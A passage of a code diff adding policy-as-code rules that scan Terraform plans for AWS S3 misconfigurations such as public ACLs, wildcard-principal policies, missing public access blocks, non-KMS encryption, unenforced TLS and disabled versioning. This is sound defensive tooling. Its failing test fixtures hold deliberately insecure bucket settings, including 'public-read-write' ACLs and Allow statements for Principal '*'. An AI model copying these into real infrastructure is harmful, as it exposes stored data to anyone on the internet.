+        let key_refs = flatten(map(x in flatten(map(c in config_rules, c.apply_server_side_encryption_by_default)), default(x.kms_master_key_id.references, [])))
+        let cmk_ref = any(x in key_refs, starts_with(x, "aws_kms_key."))
+        let aws_key = filter(d in defaults, d.sse_algorithm in param.kms_algorithms and is_empty(d.kms_master_key_id) and not cmk_ref)
+        require count(not_kms) == 0
+          else "'${r.address}' encrypts with '${first(not_kms).sse_algorithm}', not KMS" at first(not_kms).sse_algorithm
+        require not param.require_customer_key or count(aws_key) == 0
+          else "'${r.address}' uses KMS without kms_master_key_id, so the AWS-managed key aws/s3" at first(aws_key).sse_algorithm
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd", "sse_algorithm": "aws:kms"}], "bucket_key_enabled": true}]},
+               "after_unknown": {}}},
+            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-legacy", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd", "sse_algorithm": "aws:kms"}]}]}]},
+               "after_unknown": {}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": null, "sse_algorithm": ↓"AES256"}], "bucket_key_enabled": null}]},
+               "after_unknown": {}}},
+            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-legacy", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "", "sse_algorithm": ↓"aws:kms"}]}]}]},
+               "after_unknown": {}}}]}
+        """ expect "'aws_s3_bucket_server_side_encryption_configuration.data' encrypts with 'AES256', not KMS"
+            expect "'aws_s3_bucket.legacy' uses KMS without kms_master_key_id"
+        example pass "key created in the same configuration" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}]}]},
+               "after_unknown": {"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}, "rule": [{"apply_server_side_encryption_by_default": [{
+               "kms_master_key_id": {"references": ["aws_kms_key.data.arn", "aws_kms_key.data"]}, "sse_algorithm": {"constant_value": "aws:kms"}}]}]}}]}}}
+        """
+        example indeterminate "key known only after apply, from a variable" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}]}]},
+               "after_unknown": {"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_policy_public.plumb",
+      text: #"""
+      rule s3_bucket_policy_public {
+        title "S3 bucket policies do not allow any principal without a condition"
+        severity critical
+        category security
+        tags [terraform, aws, s3, public-access, iam]
+        rationale """
+          A bucket policy statement with `"Effect": "Allow"` and `"Principal": "*"` (or
+          `{"AWS": "*"}`) and no `Condition` grants its actions to everyone on the internet, signed or
+          anonymous. With `s3:GetObject` the bucket's data is public; with `s3:PutObject` or `"*"`
+          anyone can plant malware or delete data.
+        """
+        remediation """
+          Name the principals that need access (account or role ARNs, or a service principal), or
+          restrict the statement with a `Condition` (`aws:SourceVpce`, `aws:PrincipalOrgID`,
+          `aws:SourceArn` for CloudFront). Keep the bucket's public access block on so that S3 rejects
+          such policies.
+        """
+        # One policy statement (a JSON object whose nested objects go at most two levels deep) that has,
+        # at its own level, "Effect": "Allow", a wildcard principal and no "Condition". The policy is a
+        # JSON string, so this is a regular expression over its text: statements nested deeper than that
+        # are not recognised (no finding).
+        param public_statement: string = """\{(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Effect"\s*:\s*"Allow")(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Principal"\s*:\s*(?:"\*"|\{[^{}]*"AWS"\s*:\s*(?:"\*"|\[[^\]]*"\*"[^\]]*\])[^{}]*\}))(?!(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Condition"\s*:)(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*\}"""
+
+        for r in terraform.resource("aws_s3_bucket_policy", "aws_s3_bucket")
+        when not is_null(r.after)
+        # aws_s3_bucket computes `policy` (provider v4+) when the configuration does not set it.
+        let unset = type(r) == "aws_s3_bucket" and exists(r.provider.key) and not exists(r.config.policy) and is_unknown(r.after.policy)
+        when not unset
+        require not (r.after.policy matches param.public_statement)
+          else "'${r.address}' has a policy statement that allows Principal '*' without a Condition" at r.after.policy
+
+        example pass "named principal, and a Deny for everyone" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
+               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:role/reader\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"},{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}}]}
+        """
+        example pass "public principal restricted by a condition" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
+               "after": {"policy": "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [{\n    \"Effect\": \"Allow\",\n    \"Principal\": \"*\",\n    \"Action\": \"s3:GetObject\",\n    \"Resource\": \"arn:aws:s3:::acme-b/*\",\n    \"Condition\": {\"StringEquals\": {\"aws:SourceVpce\": \"vpce-1a2b3c4d\"}}\n  }]\n}\n"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
+               "after": {"policy": ↓"{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"},{\"Action\":\"*\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"*\"]},\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}},
+            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"bucket": "acme-legacy", "policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme-legacy/*\"}}"}}}]}
+        """ expect "'aws_s3_bucket_policy.b' has a policy statement that allows Principal '*' without a Condition"
+            expect "'aws_s3_bucket.legacy' has a policy statement"
+        example indeterminate "policy rendered at apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_public_access_block_missing.plumb",
+      text: #"""
+      rule s3_bucket_public_access_block_missing {
+        title "S3 buckets have a public access block"
+        severity high
+        category security
+        tags [terraform, aws, s3, public-access]
+        rationale """
+          Without an `aws_s3_bucket_public_access_block`, one careless ACL (`public-read`) or bucket
+          policy (`"Principal": "*"`) publishes the bucket's objects to the internet; leaked backups and
+          customer exports found by bucket scanners almost always start this way. The block makes S3
+          refuse public ACLs and policies, whatever later changes say.
+        """
+        remediation """
+          Add `resource "aws_s3_bucket_public_access_block"` for the bucket with `bucket =
+          aws_s3_bucket.<name>.id` and all four flags (`block_public_acls`, `block_public_policy`,
+          `ignore_public_acls`, `restrict_public_buckets`) set to true; or block public access for the
+          whole account with `aws_s3_account_public_access_block`.
+        """
+
+        for b in terraform.resource("aws_s3_bucket")
+        # Resources being destroyed have no planned state.
+        when not is_null(b.after)
+        # The bucket as a module-relative reference, as the block's `bucket` expression names it.
+        let ref = "aws_s3_bucket." + b.name
+        # A bucket whose name is known only after apply cannot be named literally by another resource.
+        let by_name = known(b.after.bucket) and count(terraform.resource("aws_s3_bucket_public_access_block")[after.bucket == b.after.bucket]) > 0
+        let by_ref = count(terraform.resource("aws_s3_bucket_public_access_block")[config.bucket.references[0] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_public_access_block")[config.bucket.references[1] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_public_access_block")[config.bucket.references[2] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_public_access_block")[module == b.module and file(it) == file(b) and ref in config.bucket.references])
+        # The account-level block in the same plan covers every bucket.
+        let account = count(terraform.resource("aws_s3_account_public_access_block")[after.block_public_acls == true and file(it) == file(b)])
+        # Blocks whose bucket is known only after apply and that do not name a bucket resource
+        # (`bucket = var.bucket_id`): any of them may be this bucket's.
+        let opaque = terraform.resource("aws_s3_bucket_public_access_block")[change.after_unknown.bucket == true and file(it) == file(b) and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
+        require by_ref > 0 or account > 0 or by_name or any(p in opaque, p.after.bucket == b.after.bucket)
+          else "'${b.address}' has no aws_s3_bucket_public_access_block" at b.address
+
+        example pass "block referencing the bucket" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {"id": true}}},
+            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"block_public_acls": true, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
+               "after_unknown": {"bucket": true, "id": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
+             "expressions": {"bucket": {"constant_value": "acme-logs"}}},
+            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]}}}]}}}
+        """
+        example pass "block naming the bucket" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {}}},
+            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs", "block_public_acls": true}, "after_unknown": {}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": ↓"aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-exports"}, "after_unknown": {"id": true}}},
+            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"block_public_acls": true}, "after_unknown": {"bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]}}}]}}}
+        """ expect "'aws_s3_bucket.exports' has no aws_s3_bucket_public_access_block"
+        example indeterminate "a block whose bucket comes from a variable" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-exports"}, "after_unknown": {"id": true}}},
+            {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"block_public_acls": true}, "after_unknown": {"bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
+             "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_public_acl.plumb",
+      text: #"""
+      rule s3_bucket_public_acl {
+        title "S3 bucket ACLs do not grant access to everyone"
+        severity critical
+        category security
+        tags [terraform, aws, s3, public-access]
+        rationale """
+          The canned ACLs `public-read`, `public-read-write` and `authenticated-read`, and grants to the
+          `AllUsers` or `AuthenticatedUsers` groups, let anyone on the internet (or anyone with any AWS
+          account) list and download the bucket's objects, and with write access, plant or overwrite
+          them. Automated scanners enumerate bucket names continuously; most public S3 data leaks are a
+          bucket ACL like this one.
+        """
+        remediation """
+          Use `acl = "private"` (or no ACL at all, with `object_ownership = "BucketOwnerEnforced"` on
+          `aws_s3_bucket_ownership_controls`) and remove grants to the AllUsers and AuthenticatedUsers
+          groups. Serve public content through CloudFront with an origin access control instead.
+        """
+        param public_acls: list<string> = ["public-read", "public-read-write", "authenticated-read"]
+        param public_groups: string = "acs\\.amazonaws\\.com/groups/global/(AllUsers|AuthenticatedUsers)"
+
+        for r in terraform.resource("aws_s3_bucket", "aws_s3_bucket_acl")
+        when not is_null(r.after)
+        let acl = r.after.acl
+        # Provider v4+ computes `acl` and `grant` when the configuration does not set them: such an
+        # unknown value is the bucket's existing (private by default) ACL, not a planned public one.
+        let configured = exists(r.provider.key)
+        let acl_unset = configured and not exists(r.config.acl) and is_unknown(acl)
+        let grants = flatten([default(r.after.grant, []), flatten(map(p in default(r.after.access_control_policy, []), default(p.grant, [])))])
+        # Grants computed from a known canned ACL (checked above) or from none configured.
+        let grants_unset = (is_unknown(r.after.grant) or is_unknown(r.after.access_control_policy))
+          and ((known(acl) and not is_empty(acl)) or (configured and not exists(r.config.grant) and not exists(r.config.access_control_policy)))
+        let public = filter(g in grants, g.uri matches param.public_groups or any(e in g.grantee, e.uri matches param.public_groups))
+        require acl_unset or acl not in param.public_acls
+          else "'${r.address}' sets the canned ACL '${acl}', which opens the bucket to everyone" at acl
+        require grants_unset or count(public) == 0
+          else "'${r.address}' grants ${join(flatten(map(g in public, [default(g.permission, join(default(g.permissions, []), ", "))])), ", ")} to '${replace(default(first(public).uri, first(first(public).grantee).uri), "http://acs.amazonaws.com/groups/global/", "")}'" at first(public)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b", "acl": "private", "grant": []}, "after_unknown": {}}},
+            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"acl": "log-delivery-write"}, "after_unknown": {"access_control_policy": true, "bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b", "provider_config_key": "aws",
+             "expressions": {"acl": {"constant_value": "log-delivery-write"}, "bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
+        """
+        example fail "canned ACLs" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.site", "mode": "managed", "type": "aws_s3_bucket", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-site", "acl": ↓"public-read", "grant": []}, "after_unknown": {}}},
+            {"address": "aws_s3_bucket_acl.drop", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "drop",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"acl": ↓"public-read-write"}, "after_unknown": {"access_control_policy": true, "bucket": true}}}]}
+        """ expect "'aws_s3_bucket.site' sets the canned ACL 'public-read'" expect "'aws_s3_bucket_acl.drop' sets the canned ACL 'public-read-write'"
+        example fail "grant to AllUsers" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"acl": null, "access_control_policy": [{"grant": [
+                 {"grantee": [{"type": "CanonicalUser", "id": "abc", "uri": null}], "permission": "FULL_CONTROL"},
+                 ↓{"grantee": [{"type": "Group", "id": null, "uri": "http://acs.amazonaws.com/groups/global/AllUsers"}], "permission": "READ"}]}]},
+               "after_unknown": {"bucket": true}}}]}
+        """ expect "'aws_s3_bucket_acl.b' grants READ to 'AllUsers'"
+        example indeterminate "ACL from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"access_control_policy": []}, "after_unknown": {"acl": true, "bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b", "provider_config_key": "aws",
+             "expressions": {"acl": {"references": ["random_shuffle.acl.result"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_tls_not_enforced.plumb",
+      text: #"""
+      rule s3_bucket_tls_not_enforced {
+        title "S3 bucket policies deny requests that do not use TLS"
+        severity medium
+        category security
+        tags [terraform, aws, s3, tls]
+        rationale """
+          S3 accepts plain HTTP requests unless the bucket policy refuses them. A client configured
+          with an `http://` endpoint, or downgraded by an attacker on the network path, then sends
+          credentials-signed requests and object data in clear text. A Deny statement on
+          `aws:SecureTransport = false` makes S3 reject every such request.
+        """
+        remediation """
+          Add to the bucket policy a statement `{"Sid": "DenyInsecureTransport", "Effect": "Deny",
+          "Principal": "*", "Action": "s3:*", "Resource": [bucket ARN, bucket ARN + "/*"],
+          "Condition": {"Bool": {"aws:SecureTransport": "false"}}}` (with `aws_s3_bucket_policy`, or the
+          bucket's `policy` on older providers).
+        """
+        # A Deny statement and a SecureTransport=false condition somewhere in the policy text (the policy
+        # is a JSON string: this is a lenient textual test, so that a real TLS-only policy always passes).
+        param deny_insecure: string = """(?s)"Effect"\s*:\s*"Deny".*(?i:"aws:SecureTransport")\s*:\s*(?:"false"|false|\[\s*"false"\s*\])|(?i:"aws:SecureTransport")\s*:\s*(?:"false"|false|\[\s*"false"\s*\]).*"Effect"\s*:\s*"Deny(?=")"""
+
+        for b in terraform.resource("aws_s3_bucket")
+        when not is_null(b.after)
+        let ref = "aws_s3_bucket." + b.name
+        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
+        let policies = flatten([
+          terraform.resource("aws_s3_bucket_policy")[after.bucket == bucket_name],
+          terraform.resource("aws_s3_bucket_policy")[config.bucket.references[0] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_policy")[config.bucket.references[1] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_policy")[config.bucket.references[2] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_policy")[module == b.module and file(it) == file(b) and ref in config.bucket.references]])
+        let opaque = terraform.resource("aws_s3_bucket_policy")[change.after_unknown.bucket == true and file(it) == file(b) and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
+        let inline_unset = exists(b.provider.key) and not exists(b.config.policy) and is_unknown(b.after.policy)
+        let inline_tls = not inline_unset and b.after.policy matches param.deny_insecure
+        require inline_tls or any(p in policies, p.after.policy matches param.deny_insecure) or any(p in opaque, p.after.bucket == b.after.bucket)
+          else "'${b.address}' has no bucket policy denying requests without TLS (aws:SecureTransport = false)" at b.address
+
+        example pass """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
+               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":[\"arn:aws:s3:::acme-b\",\"arn:aws:s3:::acme-b/*\"]}],\"Version\":\"2012-10-17\"}"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-b"}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
+        """
+        example fail "policy without the TLS statement, and no policy at all" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": ↓"aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
+            {"address": ↓"aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-c", "policy": null}, "after_unknown": {"id": true}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
+               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-b"}}},
+            {"address": "aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-c"}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
+        """ expect "'aws_s3_bucket.b' has no bucket policy denying requests without TLS" expect "'aws_s3_bucket.c' has no bucket policy"
+        example indeterminate "policy rendered at apply" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-b"}}},
+            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}, "policy": {"references": ["data.aws_iam_policy_document.b.json"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_versioning_disabled.plumb",
+      text: #"""
+      rule s3_bucket_versioning_disabled {
+        title "S3 buckets have versioning enabled"
+        severity medium
+        category security
+        tags [terraform, aws, s3, backup]
+        rationale """
+          Without versioning, an overwrite or a delete is final: a buggy job, a compromised key or
+          ransomware that rewrites every object leaves nothing to restore. Versioning keeps the previous
+          versions (expire them with a lifecycle rule to bound the cost) and is required for replication
+          and Object Lock.
+        """
+        remediation """
+          Add `resource "aws_s3_bucket_versioning"` with `bucket = aws_s3_bucket.<name>.id` and
+          `versioning_configuration { status = "Enabled" }` (provider v4+), or
+          `versioning { enabled = true }` on the bucket with older providers.
+        """
+
+        for b in terraform.resource("aws_s3_bucket")
+        when not is_null(b.after)
+        let ref = "aws_s3_bucket." + b.name
+        # The bucket's name when known; missing otherwise, so that a lookup by name finds nothing.
+        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
+        let versionings = flatten([
+          terraform.resource("aws_s3_bucket_versioning")[after.bucket == bucket_name],
+          terraform.resource("aws_s3_bucket_versioning")[config.bucket.references[0] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_versioning")[config.bucket.references[1] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_versioning")[config.bucket.references[2] == ref and module == b.module and file(it) == file(b)],
+          terraform.resource("aws_s3_bucket_versioning")[module == b.module and file(it) == file(b) and ref in config.bucket.references]])
+        # Versioning resources whose bucket comes from a variable or local: any may be this bucket's.
